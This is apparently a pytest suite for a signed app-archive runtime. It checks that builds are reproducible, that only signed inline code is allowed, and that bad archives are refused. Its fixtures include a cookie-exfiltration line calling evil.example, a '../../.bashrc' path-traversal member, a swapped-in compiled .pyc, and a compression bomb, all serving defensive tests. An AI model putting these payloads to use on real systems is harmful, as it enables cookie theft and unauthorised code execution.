"""Signed app archives: build, run from a clean folder, install, upgrade, and every way a
bad archive is refused with nothing written."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from shoal.identity import Identity
from shoal.runtime import archive

if TYPE_CHECKING:
    from playwright.sync_api import Browser

SHOAL = [sys.executable, "-m", "shoal.cli.main"]


@pytest.fixture
def home(tmp_path: Path) -> dict[str, str]:
    """An environment whose user data and state dirs are temporary folders."""
    return {**os.environ, "SHOAL_NO_LAN": "1", "XDG_DATA_HOME": str(tmp_path / "data"),
            "XDG_STATE_HOME": str(tmp_path / "state"),
            "XDG_CONFIG_HOME": str(tmp_path / "config")}


def _shoal(*args: str, env: dict[str, str], cwd: Path | None = None,
           ) -> subprocess.CompletedProcess[str]:
    return subprocess.run([*SHOAL, *args], capture_output=True, text=True, env=env, cwd=cwd,
                          timeout=60, stdin=subprocess.DEVNULL)


def _built(tmp_path: Path, env: dict[str, str], *, template: str = "blank",
           key: str = "publisher.key", version: str | None = None, name: str = "hello",
           ) -> Path:
    folder = tmp_path / "src" / f"{name}-{template}-{key}-{version}"
    if not folder.exists():
        assert _shoal("init", str(folder), "--template", template, "--name", name,
                      env=env).returncode == 0
    if version is not None:
        toml = folder / "shoal.toml"
        toml.write_text(toml.read_text().replace('version = "0.1.0"', f'version = "{version}"'))
    out = tmp_path / "dist" / key / (version or "first")
    out.mkdir(parents=True, exist_ok=True)
    result = _shoal("build", str(folder), "--out", str(out), "--identity",
                    str(tmp_path / key), "--json", env=env)
    assert result.returncode == 0, result.stderr
    return Path(json.loads(result.stdout)["path"])


def _tree(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() if p.is_file() else b"<dir>"
            for p in sorted(root.rglob("*"))} if root.exists() else {}


def test_a_hello_archive_is_a_few_kilobytes_signed_and_the_same_bytes_each_time(
        tmp_path: Path, home: dict[str, str]) -> None:
    first = _built(tmp_path, home)
    again = tmp_path / "again"
    again.mkdir()
    folder = next((tmp_path / "src").iterdir())
    (folder / ".git").mkdir()
    (folder / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (folder / "__pycache__").mkdir(exist_ok=True)
    (folder / "__pycache__" / "app.cpython-311.pyc").write_bytes(b"\0" * 100)
    result = _shoal("build", str(folder), "--out", str(again), "--identity",
                    str(tmp_path / "publisher.key"), env=home)
    assert result.returncode == 0, result.stderr
    second = again / first.name
    assert first.name == "hello-0.1.0.shoal"
    assert first.read_bytes() == second.read_bytes()  # hidden files and caches stay out
    assert first.stat().st_size < 4096
    names = zipfile.ZipFile(first).namelist()
    assert names[:2] == [archive.MANIFEST, archive.SIGNATURE]
    assert sorted(names[2:]) == ["app/.shoal-inline.json", "app/app.js", "app/app.py",
                                 "app/index.html", "app/shoal.toml",
                                 "app/style.css"]  # no test_app.py
    manifest = archive.read_manifest(first)
    publisher = Identity.load(tmp_path / "publisher.key").peer_id
    assert manifest.publisher == publisher and manifest.app_id == "local.shoal.hello"


async def test_an_archives_pages_allow_exactly_the_inline_code_that_was_signed(
        tmp_path: Path, home: dict[str, str]) -> None:
    """Someone who edits an unpacked app's page afterwards (to add a script of their own)
    gets no hash of it into the policy: the archive's hashes are those it was signed
    with, not recomputed from the files as they are now."""
    import aiohttp

    from shoal.runtime.host import AppHost
    from shoal.runtime.pages import inline_hashes

    folder = tmp_path / "src" / "inline"
    assert _shoal("init", str(folder), env=home).returncode == 0
    page = folder / "index.html"
    signed = '<script>document.title = "signed"</script><p style="color: red">x</p>'
    page.write_text(page.read_text().replace("</body>", signed + "</body>"))
    result = _shoal("build", str(folder), "--out", str(tmp_path), "--identity",
                    str(tmp_path / "publisher.key"), "--json", env=home)
    assert result.returncode == 0, result.stderr
    unpacked = tmp_path / "unpacked"
    archive.unpack(Path(json.loads(result.stdout)["path"]), unpacked)
    added = "<script>globalThis.added = true</script>"
    (unpacked / "index.html").write_text(
        (unpacked / "index.html").read_text().replace("</body>", added + "</body>"))

    async with AppHost(unpacked, data_dir=tmp_path / "data") as host, \
            aiohttp.ClientSession() as session, \
            session.get(host.url.split("#")[0]) as response:
        policy = response.headers["Content-Security-Policy"]
    for source in [*inline_hashes(signed)["script-src"], *inline_hashes(signed)["style-src"]]:
        assert source in policy
    assert inline_hashes(added)["script-src"][0] not in policy


@pytest.mark.parametrize("template", ["blank", "chat"])
def test_each_template_runs_from_its_archive_in_a_clean_folder(
        tmp_path: Path, home: dict[str, str], browser: Browser, template: str) -> None:
    built = _built(tmp_path, home, template=template)
    clean = tmp_path / "clean"
    clean.mkdir()
    shutil.copy(built, clean / built.name)
    process = subprocess.Popen(
        [*SHOAL, "run", built.name, "--browser", "--json", "--yes"], cwd=clean, env=home,
        stdout=subprocess.PIPE, text=True, stdin=subprocess.DEVNULL)
    context = browser.new_context()
    try:
        assert process.stdout is not None
        event = json.loads(process.stdout.readline())
        while event["event"] != "ready":
            assert event["event"] == "notice", event
            event = json.loads(process.stdout.readline())
        page = context.new_page()
        failures: list[str] = []
        page.on("response", lambda r: failures.append(f"{r.status} {r.url}")
                if r.status >= 400 else None)
        page.on("console", lambda m: failures.append(m.text) if m.type == "error" else None)
        page.goto(event["url"])
        page.wait_for_selector("body[data-ready=true]", state="attached", timeout=20000)
        if template == "blank":  # the page called app.py through the bridge
            assert page.text_content("#greeting") == "Hello, world!"
        assert failures == []
    finally:
        context.close()
        process.terminate()
        process.wait(timeout=10)
    assert [p.name for p in clean.iterdir()] == [built.name]  # nothing written beside it


def test_running_an_archive_shows_what_it_asks_for_and_needs_a_grant(
        tmp_path: Path, home: dict[str, str]) -> None:
    built = _built(tmp_path, home)
    result = _shoal("run", str(built), "--browser", "--json", env=home)
    assert result.returncode == 1
    asked = json.loads(result.stdout.splitlines()[0])
    assert asked["event"] == "asks"
    assert asked["capabilities"] == [
        "runs its own Python code (app.py) with your user's rights",
        "page calls Python functions: greet"]
    error = json.loads(result.stdout.splitlines()[-1])
    assert error["event"] == "error" and error["code"] == "EPERM"
    assert "--yes" in error["message"]


def _rewrite(source: Path, target: Path, change: dict[str, bytes | None],
             add: dict[str, bytes] | None = None) -> None:
    """Copy an archive, replacing (or, with None, dropping) some members' bytes."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w") as new:
        for info in old.infolist():
            data = change.get(info.filename, old.read(info.filename))
            if data is not None:
                new.writestr(info, data)
        for name, data in (add or {}).items():
            new.writestr(name, data)


def _signed_by_attacker(source: Path, target: Path, files: dict[str, bytes]) -> None:
    """An archive whose manifest lists ``files`` and is validly signed by a stranger."""
    import hashlib

    with zipfile.ZipFile(source) as old:
        body = json.loads(old.read(archive.MANIFEST))
        members = {n[len(archive.PAYLOAD):]: old.read(n) for n in old.namelist()
                   if n.startswith(archive.PAYLOAD)}
    members.update(files)
    stranger = Identity.generate()
    body["publisher"] = stranger.peer_id
    body["files"] = {p: {"size": len(d), "sha256": hashlib.sha256(d).hexdigest()}
                     for p, d in members.items()}
    raw = json.dumps(body, sort_keys=True, separators=(",", ":")).encode()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        new.writestr(archive.MANIFEST, raw)
        new.writestr(archive.SIGNATURE, stranger.sign(archive.SIGNING_CONTEXT + raw))
        for path, data in members.items():
            new.writestr(archive.PAYLOAD + path, data)


BAD = ["tampered file", "tampered manifest", "truncated", "missing file", "extra file",
       "path out of the app", "not a zip"]


@pytest.mark.parametrize("kind", BAD)
def test_a_bad_archive_is_refused_in_one_line_with_nothing_written(
        tmp_path: Path, home: dict[str, str], kind: str) -> None:
    good = _built(tmp_path, home)
    bad = tmp_path / "bad.shoal"
    raw_manifest = zipfile.ZipFile(good).read(archive.MANIFEST)
    if kind == "tampered file":
        _rewrite(good, bad, {"app/app.js": b"fetch('https://evil.example/' + document.cookie)"})
    elif kind == "tampered manifest":
        _rewrite(good, bad, {archive.MANIFEST: raw_manifest.replace(b"0.1.0", b"9.9.9")})
    elif kind == "truncated":
        bad.write_bytes(good.read_bytes()[: good.stat().st_size // 2])
    elif kind == "missing file":
        _rewrite(good, bad, {"app/style.css": None})
    elif kind == "extra file":
        _rewrite(good, bad, {}, add={"app/extra.js": b"alert(1)"})
    elif kind == "path out of the app":
        _signed_by_attacker(good, bad, {"../../.bashrc": b"echo owned"})
    else:
        bad.write_bytes(b"#!/bin/sh\necho not an archive\n")
    before = _tree(tmp_path / "data")
    for command in (["install", str(bad), "--yes"], ["run", str(bad), "--yes", "--browser"]):
        result = _shoal(*command, env=home, cwd=tmp_path)
        assert result.returncode != 0, (kind, result.stdout)
        lines = result.stderr.strip().splitlines()
        assert len(lines) == 1 and lines[0].startswith("shoal: error: "), result.stderr
        assert "Traceback" not in result.stderr
        assert _tree(tmp_path / "data") == before, kind  # nothing installed, nothing left
    assert not (tmp_path.parent / ".bashrc").exists()
    assert not list(tmp_path.rglob(".shoal-unpack-*"))


def test_upgrades_come_from_the_same_publisher_only(tmp_path: Path,
                                                    home: dict[str, str]) -> None:
    first = _built(tmp_path, home)
    result = _shoal("install", str(first), "--yes", "--json", env=home)
    assert result.returncode == 0, result.stderr
    done = json.loads(result.stdout)
    entry = Path(done["desktop_entry"])
    assert entry.is_file() and "shoal.cli.main run" in entry.read_text()
    installed = Path(done["folder"])
    assert (installed / "shoal.toml").is_file()
    # A newer version from the same publisher replaces it.
    newer = _built(tmp_path, home, version="0.2.0")
    result = _shoal("install", str(newer), "--yes", "--json", env=home)
    assert result.returncode == 0, result.stderr
    assert 'version = "0.2.0"' in (installed / "shoal.toml").read_text()
    before = _tree(tmp_path / "data")
    # An older one is refused; so is the same app id signed by someone else.
    older = _shoal("install", str(first), "--yes", env=home)
    assert older.returncode == 1 and "(EEXIST)" in older.stderr
    foreign = _built(tmp_path, home, key="stranger.key", version="0.3.0")
    result = _shoal("install", str(foreign), "--yes", env=home)
    assert result.returncode == 1 and "(EPERM)" in result.stderr
    assert "uninstall it first" in result.stderr
    assert _tree(tmp_path / "data") == before
    # The installed app runs by its id, then goes.
    process = subprocess.Popen([*SHOAL, "run", "local.shoal.hello", "--browser", "--json"],
                               env=home, stdout=subprocess.PIPE, text=True)
    try:
        assert process.stdout is not None
        assert json.loads(process.stdout.readline())["event"] == "ready"
    finally:
        process.terminate()
        process.wait(timeout=10)
    assert _shoal("uninstall", "local.shoal.hello", env=home).returncode == 0
    assert not installed.exists() and not entry.exists()
    gone = _shoal("run", "local.shoal.hello", "--browser", env=home)
    assert gone.returncode == 1 and "(ENOENT)" in gone.stderr


def test_a_grant_is_remembered_until_the_app_asks_for_more(tmp_path: Path,
                                                           home: dict[str, str]) -> None:
    first = _built(tmp_path, home)
    assert _shoal("install", str(first), "--yes", env=home).returncode == 0
    newer = _built(tmp_path, home, version="0.2.0")
    # Same publisher, same capabilities: granted already.
    assert _shoal("install", str(newer), env=home).returncode == 0
    _built(tmp_path, home, version="0.3.0")
    toml = tmp_path / "src" / "hello-blank-publisher.key-0.3.0" / "shoal.toml"
    toml.write_text(toml.read_text() + "clipboard = true\n")
    more = _built(tmp_path, home, version="0.3.0")
    result = _shoal("install", str(more), "--json", env=home)
    assert result.returncode == 1
    assert "read and write the clipboard" in json.loads(result.stdout.splitlines()[0])[
        "capabilities"]


# ---------------------------------------------------------------------------- attacks


PROBE = """import pathlib
pathlib.Path(__file__).parent.joinpath("..", "..", "ran").resolve().write_text("{}")
"""
"""An app.py that leaves a mark two folders above the app when it runs."""


def _probe_app(folder: Path, app_id: str = "org.x.notes", version: str = "1.0.0") -> Path:
    folder.mkdir(parents=True)
    (folder / "index.html").write_text("<!doctype html><title>notes</title>")
    (folder / "shoal.toml").write_text(
        f'[app]\nname = "Notes"\nid = "{app_id}"\nversion = "{version}"\n')
    return folder


def test_running_another_publishers_archive_of_an_app_is_refused(
        tmp_path: Path, home: dict[str, str]) -> None:
    """Alice's org.x.notes is installed (or was run): Mallory's archive of the same id
    would open Alice's data folder and run as her node; run refuses it as install does."""
    alice = _probe_app(tmp_path / "alice")
    mallory = _probe_app(tmp_path / "mallory")
    (mallory / "app.py").write_text(PROBE.format("mallory"))
    for name, folder in (("alice", alice), ("mallory", mallory)):
        out = tmp_path / f"{name}-dist"
        out.mkdir()
        assert _shoal("build", str(folder), "--out", str(out), "--identity",
                      str(tmp_path / f"{name}.key"), env=home).returncode == 0
    alice_archive = next((tmp_path / "alice-dist").iterdir())
    mallory_archive = next((tmp_path / "mallory-dist").iterdir())
    assert _shoal("install", str(alice_archive), "--yes", env=home).returncode == 0
    result = _shoal("run", str(mallory_archive), "--yes", "--browser", env=home)
    assert result.returncode == 1 and "(EPERM)" in result.stderr, result.stderr
    assert len(result.stderr.strip().splitlines()) == 1
    assert not list(tmp_path.rglob("ran"))
    # Not installed, only run once: the id is Alice's all the same.
    assert _shoal("uninstall", "org.x.notes", env=home).returncode == 0
    run = subprocess.Popen([*SHOAL, "run", str(alice_archive), "--yes", "--browser",
                            "--json"], env=home, stdout=subprocess.PIPE, text=True)
    try:
        assert run.stdout is not None
        assert json.loads(run.stdout.readline())["event"] == "ready"
    finally:
        run.terminate()
        run.wait(timeout=10)
    result = _shoal("run", str(mallory_archive), "--yes", "--browser", env=home)
    assert result.returncode == 1 and "(EPERM)" in result.stderr, result.stderr
    assert not list(tmp_path.rglob("ran"))


def test_a_folder_named_like_an_archive_is_not_run_unchecked(
        tmp_path: Path, home: dict[str, str]) -> None:
    """What unzipping a download gives: a folder named notes-1.0.0.shoal, never
    verified; it must not run as though it were the signed archive."""
    folder = _probe_app(tmp_path / "downloads" / "notes-1.0.0.shoal")
    (folder / "app.py").write_text(PROBE.format("unpacked"))
    result = _shoal("run", str(folder), "--yes", "--browser", env=home)
    assert result.returncode == 1 and "(EISDIR)" in result.stderr, result.stderr
    assert "never verified" in result.stderr
    assert not list(tmp_path.rglob("ran"))


def test_compiled_python_in_an_archive_never_runs_in_place_of_its_source(
        tmp_path: Path, home: dict[str, str]) -> None:
    """A harmless app.py, signed, beside an unchecked-hash .pyc of other code: what was
    shown and signed must be what runs."""
    import py_compile

    source = tmp_path / "evil" / "app.py"
    source.parent.mkdir()
    source.write_text(PROBE.format("pyc"))
    compiled = tmp_path / "app.pyc"
    py_compile.compile(str(source), str(compiled),
                       invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)
    tag = sys.implementation.cache_tag
    good = _built(tmp_path, home)
    bad = tmp_path / "bad.shoal"
    _signed_by_attacker(good, bad, {f"__pycache__/app.{tag}.pyc": compiled.read_bytes()})
    result = _shoal("run", str(bad), "--yes", "--browser", env=home, cwd=tmp_path)
    assert result.returncode == 1 and "(EBADMSG)" in result.stderr, result.stderr
    assert "compiled Python" in result.stderr
    assert not list(tmp_path.rglob("ran"))
    # And an app folder run as it is: its app.py runs from source, whatever is cached.
    from shoal.runtime.netapi import load_exposed

    folder = tmp_path / "one" / "two" / "app"
    (folder / "__pycache__").mkdir(parents=True)
    (folder / "app.py").write_text("# harmless\n")
    shutil.copy(compiled, folder / "__pycache__" / f"app.{tag}.pyc")
    os.utime(folder / "app.py", (0, 0))
    assert load_exposed(folder / "app.py") == {}
    assert not list(tmp_path.rglob("ran"))


def test_nothing_is_unpacked_before_the_user_agrees(tmp_path: Path,
                                                    home: dict[str, str]) -> None:
    """A small archive of highly compressible files: the prompt comes before a byte of
    it is written, and a refusal leaves nothing."""
    good = _built(tmp_path, home)
    big = tmp_path / "big.shoal"
    _signed_by_attacker(good, big, {"zeros.bin": bytes(32 << 20)})
    assert big.stat().st_size < 256 << 10
    destination = tmp_path / "unpacked" / "app"
    seen: list[list[Path]] = []

    def refuse(manifest: archive.Manifest, config: object) -> None:
        seen.append(sorted(tmp_path.rglob("*")))
        assert "nothing beyond" not in archive.capabilities(config)[0]  # type: ignore[arg-type]
        raise PermissionError("not granted")

    before = sorted(tmp_path.rglob("*"))
    with pytest.raises(PermissionError):
        archive.unpack(big, destination, refuse)
    assert seen == [before]  # nothing written when the question was asked
    assert sorted(tmp_path.rglob("*")) == before


def _flip_compressed(source: Path, target: Path, member: str) -> None:
    """A copy of the archive whose ``member``'s deflate stream starts with a block of a
    type that does not exist."""
    data = bytearray(source.read_bytes())
    info = zipfile.ZipFile(source).getinfo(member)
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    data[start] = 0xFF
    target.write_bytes(bytes(data))


BAD_INPUT = ["corrupt compressed data", "pre-release", "app id with a newline",
             "reserved app id", "padded publisher", "non-ASCII digit"]


@pytest.mark.parametrize("kind", BAD_INPUT)
def test_bad_input_in_an_archive_is_one_line(tmp_path: Path, home: dict[str, str],
                                             kind: str) -> None:
    good = _built(tmp_path, home)
    bad = tmp_path / "bad.shoal"
    code = "EBADMSG"
    if kind == "corrupt compressed data":
        _flip_compressed(good, bad, "app/app.js")
    elif kind == "pre-release":  # not an upgrade of the release
        assert _shoal("install", str(_built(tmp_path, home, version="1.0.0")), "--yes",
                      env=home).returncode == 0
        bad = _built(tmp_path, home, version="1.0.0-rc1")
        code = "EEXIST"
    else:
        body = json.loads(zipfile.ZipFile(good).read(archive.MANIFEST))
        with zipfile.ZipFile(good) as old:
            toml = old.read("app/shoal.toml").decode()
        if kind == "app id with a newline":
            body["app"]["id"] += "\n"
            toml = toml.replace('id = "local.shoal.hello"', 'id = "local.shoal.hello\\n"')
        elif kind == "reserved app id":
            body["app"]["id"] = "origins.json"
            toml = toml.replace('id = "local.shoal.hello"', 'id = "origins.json"')
        elif kind == "non-ASCII digit":
            body["app"]["version"] = "\u00b2.0"
            toml = toml.replace('version = "0.1.0"', 'version = "\u00b2.0"')
        _resigned(good, bad, body, toml.encode(), pad=kind == "padded publisher")
    for command in (["install", str(bad), "--yes"], ["run", str(bad), "--yes", "--browser"]):
        result = _shoal(*command, env=home, cwd=tmp_path)
        lines = result.stderr.strip().splitlines()
        assert result.returncode == 1 and len(lines) == 1, (kind, result.stderr)
        assert lines[0].startswith("shoal: error: ") and f"({code})" in lines[0], lines
        if kind == "pre-release":
            break  # run has no installed version to compare with


def _resigned(source: Path, target: Path, body: dict, toml: bytes, *, pad: bool) -> None:
    """``source`` with this manifest and shoal.toml, validly signed by a stranger (whose
    peer id, with ``pad``, is written with spaces around it)."""
    import hashlib

    with zipfile.ZipFile(source) as old:
        members = {n[len(archive.PAYLOAD):]: old.read(n) for n in old.namelist()
                   if n.startswith(archive.PAYLOAD)}
    members["shoal.toml"] = toml
    stranger = Identity.generate()
    body["publisher"] = f"  {stranger.peer_id}  " if pad else stranger.peer_id
    body["files"] = {p: {"size": len(d), "sha256": hashlib.sha256(d).hexdigest()}
                     for p, d in members.items()}
    raw = json.dumps(body, sort_keys=True, separators=(",", ":")).encode()
    with zipfile.ZipFile(target, "w") as new:
        new.writestr(archive.MANIFEST, raw)
        new.writestr(archive.SIGNATURE, stranger.sign(archive.SIGNING_CONTEXT + raw))
        for path, data in members.items():
            new.writestr(archive.PAYLOAD + path, data)


EVERYTHING = """[app]
name = "All"
id = "org.example.all"
scheme = "allnotes"
[permissions]
invoke = ["greet"]
fs = { read = ["~/Music"], write = ["~/Documents/all"] }
commands = ["ls", "/usr/bin/git"]
run_any_program = true
env = ["LANG"]
hotkeys = ["ctrl+alt+k"]
os = true
dns = true
network = true
window = true
dialog = true
notification = true
clipboard = true
shell = true
dgram = ["192.0.2.1:53", "192.0.2.2:*"]
[csp]
img-src = ["https://images.example"]
"""


def test_the_prompt_says_what_each_grant_lets_the_app_do(tmp_path: Path) -> None:
    from shoal.runtime.config import parse_config

    config = parse_config(EVERYTHING, tmp_path, {"index.html", "app.py", "shoal.toml"})
    assert archive.capabilities(config) == [
        "runs its own Python code (app.py) with your user's rights",
        "page calls Python functions: greet",
        "read files in ~/Music",
        "read and write files in ~/Documents/all",
        "run these programs, with any arguments and your user's rights: ls",
        "run /usr/bin/git, which can run any program: in effect, run anything with your "
        "user's rights",
        "read environment variables (its programs get these only): LANG",
        "notice these keys in any window: ctrl+alt+k",
        "open allnotes: links from anywhere on this computer (it becomes their handler)",
        "read facts about this computer (os)",
        "look up host names",
        "talk to other peers over the Shoal network",
        "control its window",
        "show file and message dialogs",
        "show notifications",
        "read and write the clipboard",
        "open links and files in other programs",
        "send UDP datagrams to 192.0.2.1:53",
        "send UDP datagrams to 192.0.2.2:any port",
        "load img-src from https://images.example",
    ]
    nothing = parse_config('[app]\nname = "N"\nid = "org.example.n"\n', tmp_path,
                           {"index.html"})
    assert archive.capabilities(nothing) == ["nothing beyond showing its own pages"]


@pytest.mark.parametrize("command", ["git", "sh", "bash", "/usr/bin/python3.11", "env",
                                     "xargs", "find", "perl"])
def test_a_program_that_runs_any_program_must_be_declared_as_such(
        tmp_path: Path, command: str) -> None:
    """A declared git runs anything (git -c alias.x='!cmd' x): shoal.toml must say the
    app can run any program, and the prompt says so, not "run programs: git"."""
    from shoal.runtime.config import ConfigError, parse_config

    text = f'[app]\nname = "N"\nid = "org.example.n"\n[permissions]\ncommands = ["{command}"]\n'
    with pytest.raises(ConfigError) as refused:
        parse_config(text, tmp_path, {"index.html"})
    assert "permissions.commands[0]" in refused.value.message
    assert "run_any_program = true" in refused.value.message
    allowed = parse_config(text + "run_any_program = true\n", tmp_path, {"index.html"})
    assert archive.capabilities(allowed) == [
        f"run {command}, which can run any program: in effect, run anything with your "
        "user's rights"]
